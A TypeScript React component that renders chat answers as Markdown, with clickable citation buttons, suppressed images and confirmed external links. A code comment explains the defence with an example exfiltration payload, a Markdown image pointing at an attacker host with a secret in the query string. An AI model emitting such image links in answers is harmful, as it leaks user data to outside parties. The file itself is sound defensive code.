"use client";

import * as React from "react";
import ReactMarkdown, { type Components } from "react-markdown";
import remarkGfm from "remark-gfm";
import { ChatLink } from "./chat-link";
import { remarkCitations } from "./remark-citations";

interface MarkdownProps {
  text: string;
  /** Citation numbers that have a source; other `[n]` stay plain text. */
  known: ReadonlySet<number>;
  onCite: (n: number) => void;
}

/**
 * An answer as Markdown. No rehype-raw: raw HTML in the text is never rendered as HTML, and
 * react-markdown drops unsafe URLs (javascript: and the like). Images are never loaded: an
 * answer could otherwise make the browser fetch `![](https://attacker/?q=secret)` on its own, so
 * only their alt text is shown. Links to other sites open only after a confirmation that shows
 * their full address (see ChatLink).
 */
export const Markdown = React.memo(function Markdown({ text, known, onCite }: MarkdownProps) {
  const components = React.useMemo<Components>(
    () => ({
      a: ({ href, children }) => <ChatLink href={href}>{children}</ChatLink>,
      img: ({ alt }) => (
        <span className="text-muted-foreground italic">[{alt?.trim() || "image"}]</span>
      ),
      cite: ({ node: _node, ...props }) => {
        const n = Number((props as Record<string, unknown>)["data-n"]);
        if (!known.has(n)) return <span>[{n}]</span>;
        return (
          <button
            type="button"
            aria-label={`Source ${n}`}
            onClick={() => onCite(n)}
            className="mx-0.5 inline-flex h-4.5 min-w-4.5 -translate-y-0.5 items-center justify-center rounded-sm bg-primary/10 px-1 align-baseline text-[0.7rem] font-semibold text-primary not-italic hover:bg-primary/20 focus-visible:outline-2 focus-visible:outline-offset-1 focus-visible:outline-ring"
          >
            {n}
          </button>
        );
      },
    }),
    [known, onCite],
  );

  return (
    <div className="prose-chat break-words">
      <ReactMarkdown remarkPlugins={[remarkGfm, remarkCitations]} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});
